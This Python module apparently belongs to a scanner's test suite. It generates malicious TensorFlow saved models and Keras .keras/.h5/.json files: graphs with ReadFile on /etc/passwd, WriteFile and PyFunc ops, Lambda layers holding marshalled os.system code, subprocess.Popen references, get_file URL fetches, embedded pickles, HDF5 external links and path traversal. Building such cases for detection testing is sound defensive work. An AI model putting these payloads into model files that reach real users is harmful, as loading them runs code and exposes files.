"""TensorFlow graphs that reach files or Python, and Keras models that carry code or name it."""

import base64
import io
import json

import h5py
import numpy

from archives import zipped
from families import COMMAND, MARKER, URL, Case
from families.libraries import PICKLED
from families.stdlib import code
from families.wire import message

NAME = "tensorflow-keras"
ABOUT = "TensorFlow graphs and Keras models"
LAMBDA = base64.b64encode(code(f"import os\nos.system({COMMAND!r})")).decode() + "\n"
INSIDE = "(lambda x: __import__('os').system(" + repr(COMMAND) + ") and x)"


def function_code():
    """The code object of `lambda x: (os.system(…), x)[1]`, as Keras marshals it."""
    import marshal

    made = compile("lambda x: (__import__('os').system(" + repr(COMMAND) + "), x)[1]", "<lambda>", "eval")
    return base64.b64encode(marshal.dumps(made.co_consts[0], 2)).decode() + "\n"


def node(name, op, *inputs, **attributes):
    """A NodeDef; attributes are text (`s`) or types (`type`, as numbers)."""
    fields = [(1, name), (2, op), *((3, one) for one in inputs)]
    for key, value in attributes.items():
        fields.append((5, message((1, key), (2, message((6, value) if isinstance(value, int) else (2, value))))))
    return message(*fields)


def constant(name, text):
    tensor = message((1, 7), (2, b""), (8, text))
    return message((1, name), (2, "Const"), (5, message((1, "dtype"), (2, message((6, 7))))), (5, message((1, "value"), (2, message((8, tensor))))))


def graph(*nodes, library=()):
    functions = [(1, message((1, message((1, name))), *((3, one) for one in body))) for name, body in library]
    return message(*((1, one) for one in nodes), *([(2, message(*functions))] if functions else []), (4, message((1, 1395))))


def saved_model(definition):
    return message((1, 1), (2, message((1, message((4, "serve"), (5, "2.16.1"))), (2, definition))))


def meta_graph(definition):
    return message((1, message((4, "serve"))), (2, definition))


def tensorflow_cases():
    path, target = constant("path", "/etc/passwd"), constant("target", MARKER)
    x = node("x", "Placeholder", dtype=1)
    read = graph(x, path, node("read", "ReadFile", "path"))
    write = graph(x, path, target, node("read", "ReadFile", "path"), node("write", "WriteFile", "target", "read"))
    python = graph(x, node("py", "PyFunc", "x", token="pyfunc_0"))
    folder = lambda definition, **more: {"saved_model.pb": saved_model(definition), "variables/variables.index": b"", **more}  # noqa: E731
    single = lambda op, *inputs, **attributes: graph(x, path, target, node("n", op, *inputs, **attributes))  # noqa: E731
    return {
        "read-file": folder(read),
        "write-file": folder(write),
        "py-func": folder(python),
        "eager-py-func": folder(single("EagerPyFunc", "x", token="pyfunc_1")),
        "py-func-stateless": folder(single("PyFuncStateless", "x", token="pyfunc_2")),
        "matching-files": folder(single("MatchingFiles", "path")),
        "in-library": folder(graph(x, node("call", "StatefulPartitionedCall", "x"), library=[("serve", [path, node("r", "ReadFile", "path")])])),
        "write-in-library": folder(graph(x, node("call", "PartitionedCall", "x"), library=[("a", [x]), ("b", [target, node("w", "WriteFile", "target", "x")])])),
        "text-dataset": folder(single("TextLineDataset", "path", "x", "x")),
        "whole-file-reader": folder(single("ReaderReadV2", "path") + message((1, node("r2", "WholeFileReaderV2")))),
        "record-dataset": folder(single("TFRecordDataset", "path", "x", "x")),
        "summary-writer": folder(single("CreateSummaryFileWriter", "x", "target", "x", "x", "x")),
        "immutable-const": folder(single("ImmutableConst", memory_region_name="/etc/passwd", dtype=1)),
        "save-v2": folder(single("SaveV2", "target", "x", "x", "x") + message((1, constant("absolute", "/tmp/" + MARKER)))),
        "print-to-file": folder(single("PrintV2", "path", output_stream="file://" + MARKER)),
        "debug-url": folder(single("DebugIdentityV2", "x", debug_urls=URL)),
        "decode-proto": folder(single("DecodeProtoV2", "x", descriptor_source="/tmp/" + MARKER, message_type="m")),
        "filesystem-configuration": folder(single("FileSystemSetConfiguration", "path", "path", "path")),
        "data-service": folder(single("DataServiceDatasetV4", "x", "x", "path", "path")),
        "custom-op": folder(single("RunShellCommand", "path")),
        "saved_model.pb": saved_model(graph(x, target, path, node("w", "WriteFile", "target", "path"))),
        "frozen.pb": graph(x, path, node("r", "ReadFile", "path")),
        "frozen-python.pb": python,
        "model.meta": meta_graph(write),
        "graph.pbtxt": b'node { name: "path" op: "Const" }\nnode { name: "r" op: "ReadFile" input: "path" }\nversions { producer: 1395 }\n',
        "saved-model-text": {"saved_model.pbtxt": b'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "w" op: "WriteFile" } } }\n'},
        "lambda-metadata": folder(graph(x), **{"keras_metadata.pb": message((1, message((2, 1), (3, "root"), (4, "_tf_keras_sequential"), (5, json.dumps(sequential(lambda_layer_old()))))))}),
        "assets-outside": folder(graph(x, constant("asset", "../../../etc/passwd"), node("table", "InitializeTableFromTextFileV2", "x", "asset"))),
    }


def layer(class_name, config, module="keras.layers", registered=None, **more):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered, "build_config": {"input_shape": [None, 2]}, **more}


def lambda_layer(text=None):
    return layer("Lambda", {"name": "lambda", "trainable": True, "dtype": "float32", "output_shape": [2], "mask": None, "arguments": {},
                            "function": {"class_name": "__lambda__", "config": {"code": text or function_code(), "defaults": None, "closure": None}}})


def lambda_layer_old():
    return {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32", "function": [LAMBDA, None, None],
                                               "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw", "arguments": {}}}


def sequential(*layers):
    start = layer("InputLayer", {"batch_shape": [None, 2], "dtype": "float32", "sparse": False, "name": "input"}, build_config=None)
    return {"module": "keras", "class_name": "Sequential", "registered_name": "Sequential", "build_config": {"input_shape": [None, 2]},
            "config": {"name": "sequential", "trainable": True, "dtype": "float32", "layers": [start, *layers], "build_input_shape": [None, 2]}}


def weights(**layers):
    """A `model.weights.h5`: of each layer its variables."""
    stored = io.BytesIO()
    with h5py.File(stored, "w") as file:
        file.create_group("layers")
        for name, variables in layers.items():
            for index, variable in enumerate(variables):
                file.create_dataset(f"layers/{name}/vars/{index}", data=variable, track_times=False)
    return stored.getvalue()


def keras(config, **more):
    text = config if isinstance(config, (str, bytes)) else json.dumps(config)
    members = {"metadata.json": json.dumps({"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}).encode(),
               "config.json": text.encode() if isinstance(text, str) else text, "model.weights.h5": weights()}
    return zipped({**members, **more})


def h5(config, **attributes):
    stored = io.BytesIO()
    with h5py.File(stored, "w") as file:
        file.attrs["keras_version"] = "2.15.0"
        file.attrs["backend"] = "tensorflow"
        file.attrs["model_config"] = json.dumps(config)
        for key, value in attributes.items():
            file.attrs[key] = value
        group = file.create_group("model_weights")
        group.create_dataset("kernel", data=numpy.zeros(2, "f4"), track_times=False)
    return stored.getvalue()


def external(kind):
    stored = io.BytesIO()
    with h5py.File(stored, "w") as file:
        group = file.create_group("layers/dense/vars")
        if kind == "link":
            group["0"] = h5py.ExternalLink("/etc/passwd", "/x")
        else:
            group.create_dataset("0", shape=(16,), dtype="u1", external=[("/etc/passwd", 0, 16)], track_times=False)
    return stored.getvalue()


def keras_cases():
    dense = lambda **more: layer("Dense", {"name": "dense", "units": 2, "activation": "linear", "use_bias": False, **more})  # noqa: E731
    function = lambda module, name, **more: {"module": module, "class_name": "function", "config": name, "registered_name": name, **more}  # noqa: E731
    call = {"inbound_nodes": [{"args": [COMMAND], "kwargs": {}}]}
    functional = {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional", "config": {
        "name": "model", "trainable": True, "layers": [{**function("os", "system"), "name": "run", **call}], "input_layers": [], "output_layers": []}}
    get_file = {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional", "config": {
        "name": "model", "trainable": True, "layers": [{"module": "keras.utils", "class_name": "get_file", "registered_name": "get_file", "name": "fetch",
                                                        "config": {"fname": "x", "origin": URL, "extract": True}, "inbound_nodes": [{"args": ["x"], "kwargs": {"origin": URL}}]}], "input_layers": [], "output_layers": []}}
    lookup = layer("StringLookup", {"name": "lookup", "vocabulary": "/tmp/" + MARKER + ".txt", "max_tokens": None, "num_oov_indices": 1, "output_mode": "int"}, build_config=None)
    text = layer("TextVectorization", {"name": "text", "vocabulary": "/tmp/" + MARKER + ".txt", "output_mode": "int", "standardize": "lower", "split": "whitespace", "ngrams": None, "max_tokens": None, "output_sequence_length": None, "pad_to_max_tokens": False, "encoding": "utf-8", "idf_weights": None, "sparse": False, "ragged": False}, build_config=None)
    torch = layer("TorchModuleWrapper", {"name": "torch", "module": base64.b64encode(PICKLED).decode(), "output_shape": None}, module="keras.src.utils.torch_utils", build_config=None)
    wrapped = layer("TimeDistributed", {"name": "time", "layer": lambda_layer()})
    plain = layer("Activation", {"name": "activation", "activation": "linear"})
    nested = {**sequential(plain, lambda_layer()), "registered_name": None}
    config = sequential(plain, lambda_layer())
    named = layer("Lambda", {"name": "run", "function": function("os", "system"), "arguments": {}, "output_shape": None, "mask": None})
    named_popen = layer("Lambda", {"name": "run", "function": function("subprocess", "Popen"), "arguments": {"shell": True}, "output_shape": None, "mask": None})
    return {
        "lambda-names-function.keras": (keras(sequential(named)), "keras", f"m.layers[0].function({COMMAND!r})"),
        "lambda-names-popen.keras": (keras(sequential(plain, named_popen)), "keras", f"m.layers[1].function({COMMAND!r}, **m.layers[1].arguments)"),
        "lambda.keras": (keras(config), "keras", "m(__import__('numpy').zeros((1, 2), 'f4'))"),
        "lambda-first.keras": (keras(sequential(lambda_layer())), "keras", "m(__import__('numpy').zeros((1, 2), 'f4'))"),
        "lambda-wrapped.keras": (keras(sequential(wrapped)), None, None),
        "lambda-nested.keras": (keras(sequential(nested)), None, None),
        "lambda-activation.keras": (keras(sequential(dense(activation={"class_name": "__lambda__", "config": {"code": function_code(), "defaults": None, "closure": None}}))), "keras", None),
        "lambda-initializer.keras": (keras(sequential(dense(kernel_initializer={"class_name": "__lambda__", "config": {"code": function_code(), "defaults": None, "closure": None}}))), None, None),
        "lambda-loss.keras": (keras({**sequential(dense()), "compile_config": {"optimizer": "adam", "loss": {"class_name": "__lambda__", "config": {"code": function_code(), "defaults": None, "closure": None}}}}), None, None),
        "function-os.keras": (keras(functional), "keras", None),
        "function-subprocess.keras": (keras(sequential(dense(activation=function("subprocess", "check_output")))), "keras", "m.layers[0].activation"),
        "function-eval.keras": (keras(sequential(dense(activation=function("builtins", "eval")))), "keras", None),
        "class-outside.keras": (keras(sequential(layer("Popen", {"args": ["sh", "-c", COMMAND]}, module="subprocess"))), "keras", None),
        "class-own-package.keras": (keras(sequential(layer("Model", {"name": "x"}, module="evil_package.layers", registered="evil>Model"))), "keras", None),
        "class-numpy.keras": (keras(sequential(layer("runstring", {"astr": "1"}, module="numpy.testing._private.utils"))), "keras", None),
        "get-file.keras": (keras(get_file), "keras", None),
        "string-lookup.keras": (keras(sequential(lookup)), "keras", None),
        "text-vectorization.keras": (keras(sequential(text)), "keras", None),
        "lookup-url.keras": (keras(sequential(layer("StringLookup", {"name": "lookup", "vocabulary": URL + "words.txt"}, build_config=None))), None, None),
        "torch-module.keras": (keras(sequential(torch)), "keras", None),
        "external-link.keras": (keras(sequential(dense()), **{"model.weights.h5": external("link")}), None, None),
        "external-storage.keras": (keras(sequential(dense()), **{"model.weights.h5": external("storage")}), None, None),
        "extra-pickle.keras": (keras(sequential(dense()), **{"assets/vocabulary.pkl": PICKLED}), None, None),
        "traversal.keras": (keras(sequential(dense()), **{f"../../{MARKER}": b"x"}), None, None),
        "escaped.keras": (keras(json.dumps(config).replace("Lambda", "\\u004cambda").replace("__lambda__", "\\u005f_lambda__")), "keras", "m(__import__('numpy').zeros((1, 2), 'f4'))"),
        "lambda.h5": (h5({"class_name": "Sequential", "config": {"name": "s", "layers": [lambda_layer_old()]}}), None, None),
        "lambda-functional.h5": (h5({"class_name": "Functional", "config": {"name": "m", "layers": [{"class_name": "Dense", "config": {"units": 1}}, lambda_layer_old()]}}), None, None),
        "lambda-nested.h5": (h5({"class_name": "Model", "config": {"layers": [{"class_name": "Sequential", "config": {"layers": [lambda_layer_old()]}}]}}), None, None),
        "lambda-training.h5": (h5({"class_name": "Sequential", "config": {"layers": []}}, training_config=json.dumps({"loss": {"class_name": "__lambda__", "config": {"code": LAMBDA}}})), None, None),
        "module.h5": (h5(sequential(layer("Popen", {"args": COMMAND}, module="subprocess"))), None, None),
        "external-link.h5": (external("link"), None, None),
        "external-storage.h5": (external("storage"), None, None),
        "lambda.json": (json.dumps(sequential(lambda_layer(LAMBDA))).encode(), None, None),
        "lambda-run.json": (json.dumps(sequential(plain, lambda_layer())).encode(), "keras-json", "m(__import__('numpy').zeros((1, 2), 'f4'))"),
        "module.json": (json.dumps(sequential(dense(activation=function("os", "system")))).encode(), "keras-json", "m.layers[0].activation"),
    }


def cases():
    found = [Case(name if "." in name else "saved-" + name, content, name, None) for name, content in tensorflow_cases().items()]
    return found + [Case(name, content, name.split(".")[0], load, use) for name, (content, load, use) in keras_cases().items()]
